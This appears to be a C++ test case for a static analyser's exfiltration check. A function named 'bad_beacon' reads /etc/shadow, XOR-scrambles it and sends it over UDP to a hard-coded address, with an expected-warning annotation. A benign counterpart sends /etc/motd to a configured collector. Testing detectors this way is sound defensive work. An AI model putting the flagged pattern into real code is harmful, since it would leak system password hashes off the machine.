/* C++: a template seals what it is given under a key of its own, and hands it to whatever sends. */
#include <arpa/inet.h>
#include <fstream>
#include <netinet/in.h>
#include <sstream>
#include <string>
#include <sys/socket.h>
#include <utility>

namespace {

struct Wire {
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    sockaddr_in to{};
    explicit Wire(const char *address) {
        to.sin_family = AF_INET;
        to.sin_port = htons(4711);
        inet_pton(AF_INET, address, &to.sin_addr);
    }
};

template <class Next> class Sealer {
  public:
    explicit Sealer(Next next) : next_(std::move(next)) {}
    std::string seal(const std::string &text) const {
        std::string out(text.size() + 16, '\0');
        for (size_t i = 0; i < text.size(); i++)
            out[i] = static_cast<char>(text[i] ^ (0x5a + i % 3));
        return out;
    }
    Next next_;
};

std::string content(const char *path) {
    std::ifstream in(path);
    std::stringstream all;
    all << in.rdbuf();
    return all.str();
}

} // namespace

void bad_beacon() {
    Sealer<Wire> out(Wire("198.51.100.12"));
    std::string sealed = out.seal(content("/etc/shadow"));
    auto *to = reinterpret_cast<sockaddr *>(&out.next_.to);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    sendto(out.next_.fd, sealed.data(), sealed.size(), 0, to, sizeof out.next_.to);
}

/* What users may read anyway, to whom a setting names. */
void good_beacon(const char *collector) {
    Sealer<Wire> out{Wire(collector)};
    std::string sealed = out.seal(content("/etc/motd"));
    sendto(out.next_.fd, sealed.data(), sealed.size(), 0,
           reinterpret_cast<sockaddr *>(&out.next_.to), sizeof out.next_.to);
}
